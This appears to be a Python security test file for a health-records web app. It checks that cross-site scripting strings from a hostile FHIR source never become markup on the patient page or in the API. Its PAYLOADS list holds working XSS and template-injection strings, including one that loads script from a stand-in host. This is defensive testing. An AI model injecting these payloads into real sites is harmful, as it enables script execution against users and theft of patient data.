"""Script in what a source sends (SO-13): the API gives no narrative, and the page gives words, never markup.

The page with hostile words must have exactly the elements and attributes of the page with plain words in
their places: then no word became markup, whatever the markup is.
"""

import json
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import Any

from typing_extensions import override

from tests.safety.hostile_source import Json, patient_like, refer
from tests.safety.siege import ASKED_ABOUT, DOCTOR, Siege
from tests.stack import Bundle
from tests.web.visitor import Visitor

OWN = refer("Patient/p1")
PAYLOADS = (
    "<script>alert(1)</script>",
    "</dd></dl><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "<ſcript>alert(1)</ſcript>",
    "\ufeff<script\u2028>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title></textarea></style><iframe srcdoc='<script>alert(1)</script>'>",
    "https://evil.example/click",
)
NARRATIVE = {
    "status": "generated",
    "div": '<div xmlns="http://www.w3.org/1999/xhtml" onclick="a()"><script>alert(1)</script></div>',
}


def coded(word: str) -> Json:
    return {"coding": [{"system": f"urn:{word}", "code": word, "display": word}], "text": word}


def resources_with(words: list[str]) -> list[Json]:
    """Give one resource of each kind that the page shows, and a document, for every word."""
    made = (_clinical, _happening, _document)
    return [each for at, word in enumerate(words) for make in made for each in make(word, at)]


def _noted(word: str) -> Json:
    return {"text": NARRATIVE, "note": [{"text": word, "authorString": word}]}


def _clinical(word: str, _at: int) -> Iterator[Json]:
    note = _noted(word)
    allergic = {"manifestation": [coded(word)], "description": word, "severity": "mild"}
    yield {
        "resourceType": "AllergyIntolerance",
        "patient": OWN,
        "code": coded(word),
        "clinicalStatus": coded(word),
        "reaction": [allergic],
        **note,
    }
    yield {"resourceType": "Condition", "subject": OWN, "code": coded(word), **note}
    yield {
        "resourceType": "MedicationStatement",
        "subject": OWN,
        "status": "active",
        "medicationCodeableConcept": coded(word),
        "dosage": [{"text": word, "patientInstruction": word, "route": coded(word)}],
        **note,
    }
    yield {"resourceType": "Flag", "subject": OWN, "status": "active", "code": coded(word), **note}


def _happening(word: str, at: int) -> Iterator[Json]:
    yield {
        "resourceType": "Encounter",
        "subject": OWN,
        "status": "finished",
        "class": {"code": word, "display": word},
        "type": [coded(word)],
        "reasonCode": [coded(word)],
        "location": [{"location": {"display": word}}],
        "participant": [{"individual": {"display": word}}],
        "serviceProvider": {"display": word},
        "text": NARRATIVE,
        "contained": [
            {"resourceType": "Location", "id": f"l{at}", "name": word, "text": NARRATIVE}
        ],
    }


def _document(word: str, _at: int) -> Iterator[Json]:
    yield {
        "resourceType": "DocumentReference",
        "subject": OWN,
        "status": "current",
        "description": word,
        "content": [{"attachment": {"contentType": word, "url": word, "title": word}}],
        "text": NARRATIVE,
    }


KINDS = (
    "Patient",
    "AllergyIntolerance",
    "Condition",
    "MedicationStatement",
    "Encounter",
    "Flag",
    "DocumentReference",
)


def held(siege: Siege, words: list[str]) -> list[Json]:
    siege.hostile.kinds = KINDS
    found = [{**each, "id": f"r{at}"} for at, each in enumerate(resources_with(words))]
    named = patient_like(siege.person, text=NARRATIVE)
    named["name"].append({"use": "nickname", "text": words[0], "family": words[0]})
    return [named, *found]


class Skeleton(HTMLParser):
    """The elements and attributes of a page in order, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[Any, ...]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(attrs)))

    @override
    def handle_endtag(self, tag: str) -> None:
        self.elements.append((f"/{tag}", ()))

    @override
    def handle_data(self, data: str) -> None:
        self.text += data

    @override
    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", (data,)))

    def links(self) -> list[str]:
        return [
            value or ""
            for _tag, attributes in self.elements
            for name, value in attributes
            if name in {"href", "src", "action", "srcdoc", "formaction", "style"}
        ]


async def page_with(siege: Siege, visitor: Visitor, words: list[str]) -> Skeleton:
    siege.hostile.holds(*held(siege, words))
    answer = await visitor.client.get(f"/patient/{siege.stack.patient(ASKED_ABOUT)}")
    assert answer.status_code == 200
    assert "script-src" in answer.headers["content-security-policy"] or (
        "default-src 'none'" in answer.headers["content-security-policy"]
    )
    assert "unsafe" not in answer.headers["content-security-policy"]
    return Skeleton(answer.text)


async def test_so_13_hostile_words_make_no_element_attribute_or_link_of_a_page(siege: Siege):
    visitor = Visitor(siege.stack)
    await visitor.sign_in(DOCTOR)
    plain = await page_with(siege, visitor, [f"plain{at}" for at in range(len(PAYLOADS))])

    hostile = await page_with(siege, visitor, list(PAYLOADS))

    assert hostile.elements == plain.elements
    assert all(each.startswith(("/", "#")) or each == "" for each in hostile.links())
    assert not {"script", "iframe", "img", "svg", "object"} & {tag for tag, _ in hostile.elements}
    assert PAYLOADS[0] in hostile.text
    assert PAYLOADS[2] in hostile.text


async def test_so_13_the_api_gives_words_as_they_are_and_no_narrative(siege: Siege):
    answer = await siege.asked(*held(siege, list(PAYLOADS)))

    assert_is_data(answer)
    for kind in KINDS[1:]:
        assert len(answer.of(kind, "hospital")) == len(PAYLOADS), kind
    sent = {each["code"]["text"] for each in answer.of("Condition", "hospital")}
    assert sent == set(PAYLOADS)
    assert list(narratives_in(answer.resources)) == []
    assert b"<div" not in answer.response.content
    for document in answer.of("DocumentReference", "hospital"):
        assert "url" not in document["content"][0]["attachment"]


def assert_is_data(answer: Bundle) -> None:
    headers = answer.response.headers
    assert headers["content-type"].split(";")[0] == "application/fhir+json"
    assert headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in headers["content-security-policy"]


def narratives_in(value: Any) -> Iterator[Json]:
    if isinstance(value, dict):
        if "div" in value:
            yield value
        for inner in value.values():
            yield from narratives_in(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from narratives_in(inner)


def test_markup_that_got_through_would_change_the_skeleton():
    page: Callable[[str], str] = "<p class=a>{}</p>".format

    assert Skeleton(page("words")).elements == Skeleton(page("&lt;b&gt;")).elements
    assert Skeleton(page("words")).elements != Skeleton(page("<b>")).elements
    assert Skeleton(page("words")).elements != Skeleton(page("<!-- x -->")).elements
    assert list(narratives_in(json.loads('[{"a":[{"text":{"div":"x"}}]}]'))) == [{"div": "x"}]
